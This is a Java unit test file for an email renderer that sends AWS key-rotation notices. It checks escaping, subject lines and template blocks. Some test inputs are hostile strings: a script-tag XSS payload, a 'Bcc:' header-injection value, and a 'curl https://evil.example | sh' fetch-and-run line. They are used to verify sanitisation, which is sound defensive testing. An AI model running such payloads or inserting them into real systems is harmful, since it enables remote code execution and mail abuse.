package dev.ikr.message;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.ikr.domain.EmailAddress;
import dev.ikr.domain.MailMessage;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

class MessageRendererTest {

    private static final List<EmailAddress> TO = List.of(EmailAddress.of("alice@example.com"));
    private static final String SECRET = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
    private static final String ACCESS_TOKEN = "gAAAAABaccessTokenForTheAccessKeyId==";
    private static final String SECRET_TOKEN = "gAAAAABsecretTokenForTheSecretKey==";
    private static final String COMMAND =
            "scripts/ikr decrypt --user alice --access-key " + ACCESS_TOKEN + " --secret-key " + SECRET_TOKEN;
    private static final String PARAMETER = "/ikr/secret/iam/alice";
    private static final String NASTY = "<script>alert(1)</script>&\"'";
    private static final String NASTY_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;&amp;&quot;&#39;";

    private final MessageRenderer renderer = new MessageRenderer();

    private static Map<String, Object> common() {
        Map<String, Object> values = new HashMap<>();
        values.put("accountId", "123456789012");
        values.put("user", "alice");
        values.put("newKeyId", "AKIANEWKEY0000000001");
        values.put("oldKeyId", "AKIAOLDKEY0000000001");
        values.put("deleteOn", "2026-12-01 12:00 UTC");
        return values;
    }

    private static Map<String, Object> plain() {
        Map<String, Object> values = common();
        values.put("secretAccessKey", SECRET);
        return values;
    }

    private static Map<String, Object> encrypted() {
        Map<String, Object> values = common();
        values.put("encryptedAccessKey", ACCESS_TOKEN);
        values.put("encryptedSecretKey", SECRET_TOKEN);
        values.put("secretParameter", PARAMETER);
        values.put("decryptCommand", COMMAND);
        return values;
    }

    private MailMessage newKey(Map<String, Object> values) {
        return renderer.render("new-key", TO, values);
    }

    @Test
    void bothPartsNameTheUserTheKeysAndTheDeletionDate() {
        for (Map<String, Object> values : List.of(plain(), encrypted())) {
            MailMessage mail = newKey(values);

            assertThat(mail.to()).isEqualTo(TO);
            for (String part : List.of(mail.text(), mail.html())) {
                assertThat(part).contains("alice", "123456789012", "AKIANEWKEY0000000001",
                        "AKIAOLDKEY0000000001", "2026-12-01 12:00 UTC");
            }
        }
    }

    @Test
    void plainModeHasTheSecretAndNothingAboutDecryption() {
        MailMessage mail = newKey(plain());

        for (String part : List.of(mail.text(), mail.html())) {
            assertThat(part).contains(SECRET).doesNotContain("gAAAA", "decrypt", PARAMETER);
        }
        assertThat(mail.text()).contains("    aws_secret_access_key = " + SECRET + "\n");
        assertThat(mail.html()).containsPattern("<pre[^>]*>" + Pattern.quote(
                "aws_access_key_id = AKIANEWKEY0000000001\naws_secret_access_key = " + SECRET + "</pre>"));
    }

    @Test
    void encryptedModeHasTheTokensTheCommandAndTheParameterButNoSecret() {
        MailMessage mail = newKey(encrypted());

        for (String part : List.of(mail.text(), mail.html())) {
            assertThat(part).contains(ACCESS_TOKEN, SECRET_TOKEN, COMMAND, PARAMETER).doesNotContain(SECRET);
        }
        assertThat(mail.text()).contains("\n    " + COMMAND + "\n");
        assertThat(mail.html()).containsPattern("<pre[^>]*>" + Pattern.quote(COMMAND + "</pre>"));
    }

    @Test
    void encryptedModeWithoutACommandStillNamesTheParameter() {
        Map<String, Object> values = encrypted();
        values.remove("decryptCommand");

        MailMessage mail = newKey(values);

        assertThat(mail.text()).contains(ACCESS_TOKEN, SECRET_TOKEN, PARAMETER).doesNotContain("ikr decrypt");
    }

    @Test
    void aMailWithoutAnyKeyIsRefused() {
        assertThatThrownBy(() -> newKey(common()))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("{{encryptedAccessKey}}");
    }

    @Test
    void instructionsAreAListInOrder() {
        Map<String, Object> values = plain();
        values.put("instructions", List.of("Update the Jenkins credential", "Restart the exporter", "Tell Bob"));

        MailMessage mail = newKey(values);

        assertThat(mail.text()).contains(
                "- Update the Jenkins credential\n- Restart the exporter\n- Tell Bob\n");
        assertThat(mail.html()).contains(
                "<ul><li>Update the Jenkins credential</li><li>Restart the exporter</li><li>Tell Bob</li></ul>");
    }

    @Test
    void withoutInstructionsThereIsNoList() {
        Map<String, Object> values = plain();
        values.put("instructions", List.of());

        assertThat(newKey(values).html()).doesNotContain("<ul>");
        assertThat(newKey(plain()).html()).doesNotContain("<ul>");
    }

    @Test
    void taggedValuesAreEscapedInHtmlAndVerbatimInText() {
        Map<String, Object> values = plain();
        values.put("instructions", List.of(NASTY));
        values.put("accountAlias", NASTY);

        MailMessage mail = newKey(values);

        assertThat(mail.html()).doesNotContain("<script>", NASTY).contains("<li>" + NASTY_ESCAPED + "</li>");
        assertThat(mail.html()).contains("<title>IKR: new AWS access key for alice in account "
                + NASTY_ESCAPED + " (123456789012)</title>");
        assertThat(mail.text()).contains("- " + NASTY + "\n", "Account: " + NASTY + " (123456789012)");
        assertThat(mail.subject()).contains(NASTY);
    }

    @Test
    void subjectShowsAliasAndIdWhenThereIsAnAlias() {
        Map<String, Object> values = plain();
        values.put("accountAlias", "acme-prod");

        assertThat(newKey(values).subject())
                .isEqualTo("IKR: new AWS access key for alice in account acme-prod (123456789012)");
    }

    @Test
    void subjectShowsOnlyTheIdWithoutAnAlias() {
        Map<String, Object> values = plain();
        assertThat(newKey(values).subject()).isEqualTo("IKR: new AWS access key for alice in account 123456789012");

        values.put("accountAlias", "");
        assertThat(newKey(values).subject()).isEqualTo("IKR: new AWS access key for alice in account 123456789012");
    }

    @Test
    void aLineBreakInAValueCannotBreakTheSubjectOrTheBody() {
        Map<String, Object> values = plain();
        values.put("accountAlias", "acme\r\nBcc: mallory@example.com");
        values.put("instructions", List.of("fine\n\n    curl https://evil.example | sh"));

        MailMessage mail = newKey(values);

        assertThat(mail.subject()).doesNotContain("\r", "\n").contains("Bcc: mallory@example.com");
        assertThat(mail.text()).contains("- fine     curl https://evil.example | sh\n")
                .doesNotContain("\n    curl");
        assertThat(mail.html()).doesNotContain("<pre style=\"white-space:pre-wrap;word-break:break-all\">curl");
    }

    @Test
    void replacedKeyNoticeOnlyWhenAKeyWasReplaced() {
        Map<String, Object> values = plain();
        assertThat(newKey(values).text()).doesNotContain("replaces");

        values.put("replacedKeyId", "AKIAREPLACED00000001");
        MailMessage mail = newKey(values);

        assertThat(mail.text()).contains("AKIAREPLACED00000001", "no longer works");
        assertThat(mail.html()).contains("AKIAREPLACED00000001", "no longer works");
    }

    @Test
    void aMissingRequiredValueNamesThePlaceholderAndTheTemplateButNoValue() {
        Map<String, Object> values = plain();
        values.remove("oldKeyId");

        assertThatThrownBy(() -> newKey(values))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("{{oldKeyId}}")
                .hasMessageContaining("new-key")
                .hasMessageNotContaining(SECRET);
    }

    @Test
    void anEmptyRequiredValueIsMissing() {
        Map<String, Object> values = plain();
        values.put("user", "");

        assertThatThrownBy(() -> newKey(values)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("{{user}}");
    }

    @Test
    void anUnknownTemplateIsAnError() {
        assertThatThrownBy(() -> renderer.render("no-such-mail", TO, plain()))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("no-such-mail");
        assertThatThrownBy(() -> renderer.render("../mail/new-key", TO, plain()))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void htmlIsACompleteDocument() {
        String html = newKey(plain()).html();

        assertThat(html).startsWith("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>IKR: new AWS access key")
                .contains("</title></head><body style=\"font-family:sans-serif\">")
                .endsWith("</body></html>\n");
        assertThat(html).contains("<h2>", "<p>", "<pre");
    }

    @Test
    void textHasNoDoubleBlankLinesAndEndsWithOneNewline() {
        for (Map<String, Object> values : List.of(plain(), encrypted())) {
            values.put("instructions", List.of("one"));
            String text = newKey(values).text();

            assertThat(text).doesNotContain("\n\n\n").endsWith("\n").doesNotEndWith("\n\n").doesNotStartWith("\n");
        }
    }

    @Test
    void toStringShowsNoSecret() {
        assertThat(newKey(plain()).toString()).doesNotContain(SECRET);
        assertThat(newKey(encrypted()).toString()).doesNotContain(ACCESS_TOKEN, SECRET_TOKEN, COMMAND);
    }

    // ---- the template language, with test-blocks.mail -------------------------------------

    @Test
    void ifAndEachNest() {
        MailMessage mail = renderer.render("test-blocks", TO,
                Map.of("name", "Ann", "flag", "yes", "groups", List.of("g1", "g2"), "items", List.of("a", "b")));

        assertThat(mail.subject()).isEqualTo("Blocks for Ann");
        assertThat(mail.text()).isEqualTo("""
                Hello Ann.

                Flag is set.
                Other is not set.

                Group g1:

                - a
                - b

                Group g2:

                - a
                - b

                    indented Ann
                    second line

                Done.
                """);
    }

    @Test
    void negatedIfAndHeadings() {
        MailMessage mail = renderer.render("test-blocks", TO,
                Map.of("name", "Ann", "flag", "  ", "other", "x", "items", List.of("a", "b")));

        assertThat(mail.text()).isEqualTo("""
                Hello Ann.

                Flag is not set.

                Items only
                ==========
                Item a
                Item b

                    indented Ann
                    second line

                Done.
                """);
        assertThat(mail.html()).isEqualTo("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Blocks for Ann"
                + "</title></head><body style=\"font-family:sans-serif\">\n"
                + "<p>Hello Ann.</p>\n"
                + "<p>Flag is not set.</p>\n"
                + "<h2>Items only</h2><p>Item a<br>\nItem b</p>\n"
                + "<pre style=\"white-space:pre-wrap;word-break:break-all\">indented Ann\nsecond line</pre>\n"
                + "<p>Done.</p>\n"
                + "</body></html>\n");
    }

    @Test
    void nestedIfSeesBothConditions() {
        MailMessage mail = renderer.render("test-blocks", TO, Map.of("name", "Ann", "flag", "yes", "other", "x"));

        assertThat(mail.text()).contains("Flag is set.\nOther is set.\n").doesNotContain("Other is not set");
    }

    @Test
    void absentOrEmptyListsRepeatNothing() {
        Map<String, Object> values = new HashMap<>();
        values.put("name", "Ann");
        values.put("groups", null);
        values.put("items", List.of());

        String text = renderer.render("test-blocks", TO, values).text();

        assertThat(text).doesNotContain("Group", "Item", "- ").doesNotContain("\n\n\n");
    }

    @Test
    void wrongValueTypesAreErrors() {
        assertThatThrownBy(() -> renderer.render("test-blocks", TO, Map.of("name", List.of("Ann"))))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("{{name}}");
        assertThatThrownBy(() -> renderer.render("test-blocks", TO, Map.of("name", "Ann", "groups", "g1")))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("groups");
        assertThatThrownBy(() -> renderer.render("test-blocks", TO, Map.of("name", "Ann", "flag", 42)))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("flag");
    }
}
